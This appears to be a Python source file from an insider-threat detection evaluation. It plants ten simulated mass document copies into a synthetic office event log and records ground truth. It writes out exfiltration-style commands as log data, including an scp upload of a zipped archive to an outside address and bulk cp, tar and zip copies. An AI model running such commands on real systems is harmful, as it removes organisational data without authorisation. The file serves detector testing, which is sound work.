"""Ten mass copies put into the month of office_month.py, by ten persons who otherwise work as everybody does, on ten working days. See eval/README.md.

They take from the office and change nothing of it: the ordinary events of a seed are the same with and without them.
"""
from office_month import DAY, SMB, SSH, Session, stamp

# Kind, unit, how, position of the day among 22 working days, documents, seconds that it takes, hour of its begin.
KINDS = (
    ('cp of 200 documents in 2 minutes', 'engineering', SSH, 2, 200, 120, 11.2),
    ('tar of folders, in seconds', 'engineering', SSH, 4, 240, 6, 15.6),
    ('300 documents over 6 hours by SMB', 'sales', SMB, 6, 300, 6 * 3600, 9.5),
    ('80 labelled documents only, in 25 minutes', 'finance', SMB, 7, 80, 1500, 14.1),
    ('rsync of 150 at night', 'engineering', SSH, 9, 150, 90, 2.4),
    ('250 by SMB from a new address', 'sales', SMB, 11, 250, 720, 16.2),
    ('200 over 3 hours, having given notice', 'support', SMB, 13, 200, 3 * 3600, 9.8),
    ('zip of 150, then scp', 'engineering', SSH, 15, 150, 20, 17.1),
    ('220 of another unit by sftp, in 4 minutes', 'engineering', SSH, 17, 220, 240, 10.3),
    ('160 copied, then deleted, in 10 minutes', 'purchasing', SMB, 19, 160, 600, 13.4),
)
PARENTS = {SMB: ('/usr/sbin/smbd', '/usr/lib/systemd/systemd'), SSH: ('/usr/bin/bash', '/usr/sbin/sshd', '/usr/sbin/sshd', '/usr/lib/systemd/systemd')}


class Thefts:
    def __init__(self, office):
        self.o, self.out, self.truth, self.pid, self.inode = office, [], [], 2000000, 90000000
        w, self.todo = office.working, {}
        taken = set()
        for n, (kind, unit, via, at, documents, takes, hour) in enumerate(KINDS):
            day = w[min(len(w) - 1, at * len(w) // 22)]
            p = office.leaver if 'notice' in kind else self.thief(unit, via, day, taken)
            taken.add(p.name)
            self.todo.setdefault(day, []).append((n, p, documents, takes, hour))

    def thief(self, unit, via, day, taken):
        here = [p for p in self.o.staff if p.name not in taken and not self.o.absent(p, day) and p.unit != 'analytics']
        by = [p for p in here if p.via == via]
        # In a small office whoever is there.
        return ([p for p in by if p in self.o.spare[unit]] or by or here or self.o.staff)[0]

    def what(self, r, n, p, documents):
        """Folder by folder, as somebody takes who knows where things are."""
        o = self.o
        if n == 3:
            docs = [d for f in o.units[p.unit] for d in f.docs if 'confidential' in d.label or 'restricted' in d.label]
            return docs[:documents]
        folders = r.sample(o.units['sales'] if n == 8 else o.units[p.unit], len(o.units['sales' if n == 8 else p.unit]))
        if n in (1, 7):
            folders = sorted(p.projects, key=lambda f: -len(f.docs)) + folders
        return [d for f in folders for d in f.docs][:documents]

    def session(self, p, n, program):
        self.pid += 17
        client = '10.20.200.14' if n == 5 else getattr(p, 'client', p.addresses[0])
        via = KINDS[n][2]
        return Session(p, '/usr/sbin/smbd' if via == SMB else program, self.pid, via, client, PARENTS[via])

    def put(self, t, s, verb, path, obj=None, label='', more='', seen='access'):
        self.out.append((t, s, verb, path, obj, label, more, seen))

    def execute(self, t, s, command):
        self.put(t, s, 'exec', None, more=f',"command":"{command}"', seen=None)

    def day(self, day):
        for n, p, documents, takes, hour in self.todo.get(day, ()):
            self.copy(n, p, documents, takes, day * DAY + hour * 3600)

    def copy(self, n, p, documents, takes, t):
        r = self.o.rng('theft', n)
        programs = {0: '/usr/bin/cp', 1: '/usr/bin/tar', 4: '/usr/bin/rsync', 7: '/usr/bin/zip', 8: '/usr/lib/openssh/sftp-server'}
        commands = {0: 'cp -r . /media/disk', 1: 'tar czf /tmp/backup.tgz .', 4: 'rsync --server --sender -logDtpre.iLsfxCIvu . .', 7: 'zip -qr old.zip .'}
        s, docs = self.session(p, n, programs.get(n)), self.what(r, n, p, documents)
        if n in commands:
            self.execute(t - .01, s, commands[n])
        times, begin = [], t
        for d in docs:
            times.append([stamp(t), d.path])
            self.put(t, s, 'read', d.path, d.object, d.label)
            if n == 9:
                self.put(t + .8, s, 'delete', d.path, d.object, d.label, seen=None)
            t += r.uniform(.4, 1.6) * takes / len(docs)
        if n == 7:
            self.inode += 1
            archive, obj = f'{p.home.path}/old.zip', f'64771:{self.inode}:1'
            self.put(begin + .01, s, 'create', archive, obj)
            self.put(t, s, 'write', archive, obj)
            out = self.session(p, n, '/usr/bin/scp')
            self.execute(t + 40, out, 'scp old.zip u4711@203.0.113.9:')
            self.put(t + 40.2, out, 'read', archive, obj)
            t += 60
        self.truth.append({'kind': KINDS[n][0], 'person': p.name, 'via': KINDS[n][2], 'begin': stamp(begin), 'end': stamp(t), 'documents': times})

    def take(self):
        events, self.out = sorted(self.out, key=lambda e: e[0]), []
        return events
